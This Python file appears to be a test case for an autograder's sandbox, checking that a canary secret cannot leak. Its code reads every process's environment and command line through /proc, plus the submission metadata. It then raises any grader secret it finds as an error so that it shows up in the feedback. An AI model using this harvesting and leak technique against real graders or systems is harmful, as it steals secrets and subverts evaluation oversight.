"""Reads every environment it can reach (its own, /proc/*/environ and /proc/*/cmdline of
every process, the submission's metadata) looking for the grader's secrets; if it finds
one, it raises it as the cell's error (quoted in the feedback). make validate gives the
runner a canary secret to look for.

assignment: ffi_lowering
score: 0
absent:
  - canary-3b1f
"""
import glob, os

loot = [f"{k}={v}" for k, v in os.environ.items()]
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + ["/autograder/submission_metadata.json"]:
    try:
        with open(path, "rb") as f:
            loot.append(f.read().decode(errors="replace"))
    except OSError:
        pass
print(loot)
secrets = [text for text in loot if "canary-3b1f" in text]

if secrets:   # the cell's error is quoted in the feedback
    raise RuntimeError(" ".join(text[text.index("canary-3b1f") - 20:][:200] for text in secrets))
